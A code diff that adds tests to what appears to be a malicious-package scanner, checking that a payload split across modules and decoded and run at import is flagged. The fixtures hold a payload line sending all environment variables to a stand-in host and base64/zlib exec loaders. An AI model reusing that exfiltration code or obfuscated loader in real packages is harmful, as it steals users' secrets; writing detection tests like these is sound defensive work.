@@ -1076,3 +1076,50 @@ def test_a_service_word_in_the_project_name_does_not_make_the_mail_server_its_ow
 )
 def test_hosts_named_after_the_project(host: str, name: str, own: bool) -> None:
     assert named_after(host, name, set()) is own
+
+
+def _encoded(code: str) -> str:
+    import base64
+    import zlib
+
+    return base64.b64encode(zlib.compress(code.encode())).decode()
+
+
+PAYLOAD = (
+    "import os, urllib.request\n"
+    "urllib.request.urlopen('http://192.0.2.7/e', data=repr(dict(os.environ)).encode())\n"
+)
+UNPACK = "import base64, zlib\ndef unpack(s):\n    return zlib.decompress(base64.b64decode(s))\n"
+
+
+@pytest.mark.parametrize(
+    "files",
+    [
+        {
+            f"{DEFAULT_NAME}/__init__.py": "import base64, zlib\nfrom ._data import BLOB\n"
+            "exec(zlib.decompress(base64.b64decode(BLOB)))\n",
+            f"{DEFAULT_NAME}/_data.py": f"BLOB = {_encoded(PAYLOAD)!r}\n",
+        },
+        {
+            f"{DEFAULT_NAME}/__init__.py": f"from ._u import unpack\nexec(unpack({_encoded(PAYLOAD)!r}))\n",
+            f"{DEFAULT_NAME}/_u.py": UNPACK,
+        },
+    ],
+    ids=["payload-constant-in-another-module", "decoder-in-another-module"],
+)
+def test_a_payload_split_across_modules_is_decoded_and_run_at_import(
+    tmp_path: Path, files: dict[str, str]
+) -> None:
+    verdict, findings = scan_package(tmp_path, files)
+    assert verdict is Verdict.MALICIOUS, findings
+    assert any(f.startswith("decode-exec:critical") for f in findings), findings
+
+
+def test_benign_decoder_in_another_module_runs_a_file_it_is_given(tmp_path: Path) -> None:
+    files = {
+        f"{DEFAULT_NAME}/__init__.py": "import sys\nfrom ._u import unpack\n"
+        "if len(sys.argv) > 2:\n    exec(unpack(open(sys.argv[2]).read()))\n",
+        f"{DEFAULT_NAME}/_u.py": UNPACK,
+    }
+    verdict, findings = scan_package(tmp_path, files)
+    assert verdict is not Verdict.MALICIOUS, findings
